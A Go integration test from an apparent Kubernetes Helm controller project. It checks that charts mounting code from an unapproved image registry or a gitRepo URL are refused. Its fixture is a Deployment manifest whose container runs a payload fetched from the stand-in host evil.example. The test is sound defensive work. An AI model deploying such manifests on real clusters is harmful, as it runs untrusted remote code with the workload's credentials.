//go:build envtest

/*
Copyright 2026 The meshkeeper Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package helm

import (
	"testing"

	appsv1 "k8s.io/api/apps/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/meshkeeper/meshkeeper/internal/charts"
)

// TestAChartCannotMountCodeFromOutsideTheAllowedHubs: a volume can bring code into a pod as much as an
// image can, code a container's command runs with the workload's ServiceAccount. An image volume (GA in
// Kubernetes 1.36) has the kubelet pull an OCI image and mount its files: the image hubs the installer
// allowed hold for it as for the containers' images. A gitRepo volume has the kubelet clone a repository
// from any URL (on Kubernetes 1.31 and 1.32, which meshkeeper supports, the kubelet still serves it by
// default): it is refused. A chart whose Deployment mounts either is refused, and the Deployment is not
// created.
func TestAChartCannotMountCodeFromOutsideTheAllowedHubs(t *testing.T) {
	for name, tc := range map[string]struct {
		volume, refusal string
	}{
		"an image volume from another hub": {volume: `image: {reference: "evil.example/payload:1"}`,
			refusal: `which mounts image volume payload of image "evil.example/payload:1"`},
		"a gitRepo volume": {volume: `gitRepo: {repository: "https://evil.example/payload.git"}`,
			refusal: `which mounts gitRepo volume payload, a clone of "https://evil.example/payload.git"`},
	} {
		t.Run(name, func(t *testing.T) {
			m, c, ns := onAPIServer(t)
			m.CheckImage = charts.Policy{}.CheckImage // Istio's official hubs
			chart := attackChart("payload", `apiVersion: v1
kind: ServiceAccount
metadata: {name: agent}
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: agent}
spec:
  selector: {matchLabels: {app: agent}}
  template:
    metadata: {labels: {app: agent}}
    spec:
      serviceAccountName: agent
      containers:
      - name: agent
        image: docker.io/istio/pilot:1.31.1
        command: [/payload/run]
        volumeMounts: [{name: payload, mountPath: /payload}]
      volumes:
      - name: payload
        `+tc.volume+`
`)
			_, err := m.Ensure(t.Context(), attackRelease(ns, chart))
			if got := (&appsv1.Deployment{}); c.Get(t.Context(), client.ObjectKey{Namespace: ns, Name: "agent"}, got) == nil {
				t.Errorf("the Deployment was created with volumes %+v", got.Spec.Template.Spec.Volumes)
			}
			expectRefused(t, err, `Deployment `+ns+`/agent, `+tc.refusal, "(rule: "+ruleImage+")")
		})
	}
}
